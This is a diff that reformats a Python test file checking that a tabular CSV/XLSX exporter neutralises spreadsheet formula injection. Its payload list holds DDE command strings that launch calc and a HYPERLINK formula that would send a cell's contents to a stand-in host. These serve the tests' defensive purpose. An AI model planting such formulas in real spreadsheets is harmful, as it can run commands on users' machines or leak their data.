@@ -15,9 +15,23 @@ from hypothesis import strategies as st
 from data.formats import tabular
 
 PAYLOADS = (
-    "=1+1", "=cmd|' /C calc'!A0", "+1", "-1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd", "\t=1", "\r=1", "\n=1", "  =1", "＝1+1", "＋1", "－1",
-    '=HYPERLINK("http://example.org/?x="&A1;"open")', "=IMPORTXML(CONCAT(A1),1)", "\ufeff=1",
-)  # fmt: skip
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1",
+    "-1",
+    "-2+3+cmd|' /C calc'!D2",
+    "@SUM(1+1)*cmd",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "  =1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    '=HYPERLINK("http://example.org/?x="&A1;"open")',
+    "=IMPORTXML(CONCAT(A1),1)",
+    "\ufeff=1",
+)
 
 
 def read(frame: pd.DataFrame) -> list[list[str]]:
@@ -35,11 +49,20 @@ def test_a_header_cannot_be_a_formula(payload: str) -> None:
 
 
 def test_numbers_stay_numbers() -> None:
-    frame = pd.DataFrame({
-        "difference": pd.array([-163, None, 0], dtype="Int64"), "share": [-0.25, None, 1 / 3], "seen": pd.array([True, None, False], dtype="boolean"),
-        "mixed": pd.Series([-5, None, "-5"], dtype=object), "code": ["0417", None, "0"]})  # fmt: skip
+    frame = pd.DataFrame(
+        {
+            "difference": pd.array([-163, None, 0], dtype="Int64"),
+            "share": [-0.25, None, 1 / 3],
+            "seen": pd.array([True, None, False], dtype="boolean"),
+            "mixed": pd.Series([-5, None, "-5"], dtype=object),
+            "code": ["0417", None, "0"],
+        }
+    )
     assert read(frame)[1:] == [
-        ["-163", "-0.25", "true", "-5", "0417"], ["", "", "", "", ""], ["0", "0.3333333333333333", "false", "'-5", "0"]]  # fmt: skip
+        ["-163", "-0.25", "true", "-5", "0417"],
+        ["", "", "", "", ""],
+        ["0", "0.3333333333333333", "false", "'-5", "0"],
+    ]
 
 
 def test_instants_carry_their_offset() -> None:
@@ -57,8 +80,13 @@ def test_what_goes_in_comes_out_or_is_neutral(words: str) -> None:
 
 
 def test_a_workbook_holds_the_same_cells(tmp_path) -> None:
-    frame = pd.DataFrame({"words": [*PAYLOADS, None], "n": pd.array([-1] * len(PAYLOADS) + [None], dtype="Int64"),
-                          "at": pd.to_datetime([datetime(2029, 1, 14, tzinfo=UTC)] * (len(PAYLOADS) + 1), utc=True)})  # fmt: skip
+    frame = pd.DataFrame(
+        {
+            "words": [*PAYLOADS, None],
+            "n": pd.array([-1] * len(PAYLOADS) + [None], dtype="Int64"),
+            "at": pd.to_datetime([datetime(2029, 1, 14, tzinfo=UTC)] * (len(PAYLOADS) + 1), utc=True),
+        }
+    )
     path = tmp_path / "book.xlsx"
     tabular.save_xlsx({"stations": frame}, path, notes=["=note"])
     book = openpyxl.load_workbook(path, read_only=True)
